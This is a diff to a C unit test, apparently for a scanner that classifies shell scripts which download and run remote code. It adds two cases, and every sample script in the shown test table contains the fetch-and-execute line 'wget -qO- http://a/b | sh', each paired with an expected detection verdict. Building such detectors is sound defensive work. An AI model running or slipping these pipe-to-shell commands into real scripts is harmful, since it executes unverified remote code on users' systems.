@@ -150,6 +150,9 @@ static void test_shell_network(void **state)
 		{ SH, "#!/bin/bash\nup() {\nwget -qO- http://a/b | sh\n}\nexport -f up\nxargs bash -c up\n",
 		  "3 unsigned-download / shell / likely\n" },
 		{ SH, "#!/bin/sh\n(test -f /x; exit $?) && exit 0\nwget -qO- http://a/b | sh\n", "3 unsigned-download / shell / likely\n" },
+		{ SH, "#!/bin/sh\nmount /dev/mmcblk0p2 /mnt && exec switch_root /mnt /init\nwget -qO- http://a/b | sh\n",
+		  "3 unsigned-download / shell / likely\n" },
+		{ SH, "#!/bin/sh\necho no && exit 0\nwget -qO- http://a/b | sh\n", "3 unsigned-download / shell / possible\n" },
 		{ SH, "#!/bin/sh\nkill -0 $(cat /run/x) && exit 0\nwget -qO- http://a/b | sh\n", "3 unsigned-download / shell / proven\n" },
 		{ "/etc/init.d/up", "#!/sbin/openrc-run\nstart() {\nwget -qO- http://a/b | sh\n}\n", "3 unsigned-download / shell / proven\n" },
 		/* what is run is not what was fetched, or comes through what unpacks it */
